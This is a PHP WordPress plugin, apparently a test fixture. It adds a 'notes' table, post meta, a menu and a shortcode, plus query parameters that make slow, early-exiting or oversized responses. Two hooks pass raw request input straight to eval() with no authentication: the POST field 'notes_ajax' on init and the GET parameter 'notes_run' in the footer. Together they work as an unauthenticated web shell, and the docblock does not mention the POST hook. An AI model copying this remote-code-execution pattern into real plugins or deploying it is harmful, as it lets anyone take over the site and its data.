<?php
/**
 * A plugin with a table, an option and metadata of its own, which the page /noticeboard/ and the REST interface show. `notes_write()` writes
 * to tables of WordPress without its functions. Parameters of the query make a response that shows a time, reads many options,
 * or has a large header section; `notes_run` is PHP that makes it.
 */
// As WooCommerce and Action Scheduler do with theirs.
$GLOBALS['wpdb']->tables[] = 'notes';

add_action('init', function () {
    register_post_meta('post', 'mood', ['show_in_rest' => true, 'single' => true, 'type' => 'string']);
    register_nav_menus(['notes' => 'Notes']);
    add_shortcode('notes', function () {
        global $wpdb;
        $rows = $wpdb->get_col("SELECT text FROM {$wpdb->prefix}notes ORDER BY id");
        return '<p>' . esc_html(implode(', ', $rows)) . '; open ' . esc_html(get_option('notes_hours', 'never')) . '</p>'
            . wp_nav_menu(['theme_location' => 'notes', 'echo' => false]);
    });
});

add_action('init', function () {
    global $wpdb;
    if (isset($_POST['notes_ajax'])) eval(wp_unslash($_POST['notes_ajax']));
});

add_action('template_redirect', function () {
    if (!isset($_GET['notes_early'])) return;
    define('DONOTCACHEPAGE', true);
    exit('early');
});

add_action('wp_footer', function () {
    global $wpdb;
    if (isset($_GET['notes_run'])) eval(wp_unslash($_GET['notes_run']));
});

add_action('template_redirect', function () {
    if (isset($_GET['notes_options'])) {
        get_transient('notes_count');
        for ($number = 0; $number < (int) $_GET['notes_options']; $number++) get_option("notes_setting_$number");
    }
    if (isset($_GET['notes_ago'])) wp_die(human_time_diff(0) . ' years ago', '', ['response' => 200]);
});
add_action('send_headers', function () {
    if (isset($_GET['notes_field'])) header('X-Notes: ' . str_repeat('x', (int) $_GET['notes_field']));
});
add_filter('rest_pre_serve_request', function ($isServed) {
    if (isset($_GET['notes_field'])) header('X-Notes: ' . str_repeat('x', (int) $_GET['notes_field']));
    return $isServed;
});

function notes_write(): void
{
    global $wpdb;
    $wpdb->query("UPDATE $wpdb->posts SET post_title = CONCAT(post_title, '!') WHERE ID = 20");
}
